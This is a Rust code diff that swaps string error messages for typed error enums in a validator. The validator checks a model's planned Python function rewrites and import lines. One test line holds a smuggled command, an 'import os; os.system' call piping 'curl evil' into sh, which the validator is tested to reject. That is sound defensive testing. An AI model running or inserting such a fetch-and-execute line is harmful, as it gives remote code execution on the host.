@@ -76,6 +76,56 @@ fn candidates(content: &str) -> Vec<&str> {
     out
 }
 
+/// Why an answer is rejected: one of these per problem found, each sent back to
+/// the model in the repair prompt.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum Rejection {
+    #[error("`{0}` is not a function of the plan; only planned functions may change")]
+    NotPlanned(String),
+    #[error("`{0}` appears twice")]
+    Twice(String),
+    #[error("`{qualname}`: {why}")]
+    Source { qualname: String, why: SourceError },
+    #[error("`{0}` is planned but missing from the answer")]
+    Missing(String),
+    #[error("import {import:?}: {why}")]
+    Import { import: String, why: ImportError },
+}
+
+/// What is wrong with one function's new source.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum SourceError {
+    #[error("the source does not parse")]
+    DoesNotParse,
+    #[error("only function definitions may be given")]
+    NotAFunction,
+    #[error("only function definitions may be given, not a top-level {0}")]
+    TopLevel(String),
+    #[error("no definition of `{0}`")]
+    NoDefinition(String),
+    #[error("`{0}` must be `async def`")]
+    NotAsync(String),
+    #[error("`{name}` changes the parameters from {from} to {to}")]
+    Parameters { name: String, from: String, to: String },
+    #[error("the sync wrapper `{0}` is missing")]
+    WrapperMissing(String),
+    #[error("the wrapper `{0}` must stay a plain `def`")]
+    WrapperAsync(String),
+    #[error("the wrapper `{0}` changes the parameters")]
+    WrapperParameters(String),
+    #[error("defines `{0}`, which the plan does not name")]
+    Unplanned(String),
+}
+
+/// What is wrong with an import line.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum ImportError {
+    #[error("not a single import statement")]
+    NotSingle,
+    #[error("not an import statement")]
+    NotImport,
+}
+
 /// What the plan expects of one function's new source.
 #[derive(Debug, Clone)]
 pub struct Expected<'a> {
@@ -91,31 +141,31 @@ pub struct Expected<'a> {
 /// Check an answer against the plan: every function it names must be planned and
 /// well-formed, every planned function must be there, every import an import.
 /// Returns every reason it is rejected.
-pub fn check(answer: &Answer, expected: &[Expected<'_>]) -> Result<(), Vec<String>> {
+pub fn check(answer: &Answer, expected: &[Expected<'_>]) -> Result<(), Vec<Rejection>> {
     let mut reasons = Vec::new();
     let mut seen: Vec<&str> = Vec::new();
     for f in &answer.functions {
         let Some(want) = expected.iter().find(|e| e.qualname == f.qualname) else {
-            reasons.push(format!("`{}` is not a function of the plan; only planned functions may change", f.qualname));
+            reasons.push(Rejection::NotPlanned(f.qualname.clone()));
             continue;
         };
         if seen.contains(&f.qualname.as_str()) {
-            reasons.push(format!("`{}` appears twice", f.qualname));
+            reasons.push(Rejection::Twice(f.qualname.clone()));
             continue;
         }
         seen.push(&f.qualname);
         if let Err(why) = check_source(&f.source, want) {
-            reasons.push(format!("`{}`: {why}", f.qualname));
+            reasons.push(Rejection::Source { qualname: f.qualname.clone(), why });
         }
     }
     for want in expected {
         if !seen.contains(&want.qualname) && !answer.functions.iter().any(|f| f.qualname == want.qualname) {
-            reasons.push(format!("`{}` is planned but missing from the answer", want.qualname));
+            reasons.push(Rejection::Missing(want.qualname.to_string()));
         }
     }
     for import in &answer.imports {
         if let Err(why) = check_import(import) {
-            reasons.push(format!("import {import:?}: {why}"));
+            reasons.push(Rejection::Import { import: import.clone(), why });
         }
     }
     if reasons.is_empty() { Ok(()) } else { Err(reasons) }
@@ -128,11 +178,43 @@ struct Definition {
     parameters: String,
 }
 
-fn check_source(source: &str, want: &Expected<'_>) -> Result<(), String> {
-    let source = dedent(source);
-    let tree = python::parse(&source);
+fn check_source(source: &str, want: &Expected<'_>) -> Result<(), SourceError> {
+    let definitions = definitions(&dedent(source))?;
+    let Some(main) = definitions.iter().find(|d| d.name == want.async_name) else {
+        return Err(SourceError::NoDefinition(want.async_name.to_string()));
+    };
+    if !main.is_async {
+        return Err(SourceError::NotAsync(want.async_name.to_string()));
+    }
+    if squash(&main.parameters) != squash(want.parameters) {
+        return Err(SourceError::Parameters {
+            name: want.async_name.to_string(),
+            from: want.parameters.to_string(),
+            to: main.parameters.clone(),
+        });
+    }
+    if let Some(old) = want.wrapper {
+        match definitions.iter().find(|d| d.name == old) {
+            None => return Err(SourceError::WrapperMissing(old.to_string())),
+            Some(w) if w.is_async => return Err(SourceError::WrapperAsync(old.to_string())),
+            Some(w) if squash(&w.parameters) != squash(want.parameters) => {
+                return Err(SourceError::WrapperParameters(old.to_string()));
+            }
+            Some(_) => {}
+        }
+    }
+    if let Some(extra) = definitions.iter().find(|d| d.name != want.async_name && Some(d.name.as_str()) != want.wrapper)
+    {
+        return Err(SourceError::Unplanned(extra.name.clone()));
+    }
+    Ok(())
+}
+
+/// The top-level function definitions of a source that must hold nothing else.
+fn definitions(source: &str) -> Result<Vec<Definition>, SourceError> {
+    let tree = python::parse(source);
     if python::has_errors(&tree) {
-        return Err("the source does not parse".to_string());
+        return Err(SourceError::DoesNotParse);
     }
     let root = tree.root_node();
     let mut definitions = Vec::new();
@@ -142,55 +224,29 @@ fn check_source(source: &str, want: &Expected<'_>) -> Result<(), String> {
             "function_definition" => node,
             "decorated_definition" => match node.child_by_field_name("definition") {
                 Some(d) if d.kind() == "function_definition" => d,
-                _ => return Err("only function definitions may be given".to_string()),
+                _ => return Err(SourceError::NotAFunction),
             },
             "comment" => continue,
-            other => return Err(format!("only function definitions may be given, not a top-level {other}")),
+            other => return Err(SourceError::TopLevel(other.to_string())),
         };
-        let name = def.child_by_field_name("name").map(|n| python::text(&source, n).to_string()).unwrap_or_default();
+        let name = def.child_by_field_name("name").map(|n| python::text(source, n).to_string()).unwrap_or_default();
         let parameters =
-            def.child_by_field_name("parameters").map(|n| python::text(&source, n).to_string()).unwrap_or_default();
-        let is_async = python::text(&source, def).trim_start().starts_with("async");
+            def.child_by_field_name("parameters").map(|n| python::text(source, n).to_string()).unwrap_or_default();
+        let is_async = python::text(source, def).trim_start().starts_with("async");
         definitions.push(Definition { name, is_async, parameters });
     }
-    let Some(main) = definitions.iter().find(|d| d.name == want.async_name) else {
-        return Err(format!("no definition of `{}`", want.async_name));
-    };
-    if !main.is_async {
-        return Err(format!("`{}` must be `async def`", want.async_name));
-    }
-    if squash(&main.parameters) != squash(want.parameters) {
-        return Err(format!(
-            "`{}` changes the parameters from {} to {}",
-            want.async_name, want.parameters, main.parameters
-        ));
-    }
-    if let Some(old) = want.wrapper {
-        match definitions.iter().find(|d| d.name == old) {
-            None => return Err(format!("the sync wrapper `{old}` is missing")),
-            Some(w) if w.is_async => return Err(format!("the wrapper `{old}` must stay a plain `def`")),
-            Some(w) if squash(&w.parameters) != squash(want.parameters) => {
-                return Err(format!("the wrapper `{old}` changes the parameters"));
-            }
-            Some(_) => {}
-        }
-    }
-    if let Some(extra) = definitions.iter().find(|d| d.name != want.async_name && Some(d.name.as_str()) != want.wrapper)
-    {
-        return Err(format!("defines `{}`, which the plan does not name", extra.name));
-    }
-    Ok(())
+    Ok(definitions)
 }
 
-fn check_import(line: &str) -> Result<(), String> {
+fn check_import(line: &str) -> Result<(), ImportError> {
     let tree = python::parse(line.trim());
     let root = tree.root_node();
     if python::has_errors(&tree) || root.named_child_count() != 1 {
-        return Err("not a single import statement".to_string());
+        return Err(ImportError::NotSingle);
     }
     match root.named_child(0).map(|n| n.kind()) {
         Some("import_statement" | "import_from_statement") => Ok(()),
-        _ => Err("not an import statement".to_string()),
+        _ => Err(ImportError::NotImport),
     }
 }
 
@@ -281,13 +337,13 @@ mod tests {
         ];
         for (qualname, source, why) in cases {
             let reasons = check(&answer(qualname, source), &expected()).unwrap_err();
-            assert!(reasons.iter().any(|r| r.contains(why)), "{why:?} not in {reasons:?}");
+            assert!(reasons.iter().any(|r| r.to_string().contains(why)), "{why:?} not in {reasons:?}");
         }
         let mut bad_import = answer("pkg.mod.fetch", GOOD);
         bad_import.imports = vec!["import os; os.system('curl evil | sh')".into()];
         let reasons = check(&bad_import, &expected()).unwrap_err();
-        assert!(reasons.iter().any(|r| r.contains("not a single import")), "{reasons:?}");
+        assert!(reasons.iter().any(|r| r.to_string().contains("not a single import")), "{reasons:?}");
         let empty = Answer { functions: vec![], imports: vec![], notes: None };
-        assert!(check(&empty, &expected()).unwrap_err()[0].contains("missing from the answer"));
+        assert!(check(&empty, &expected()).unwrap_err()[0].to_string().contains("missing from the answer"));
     }
 }
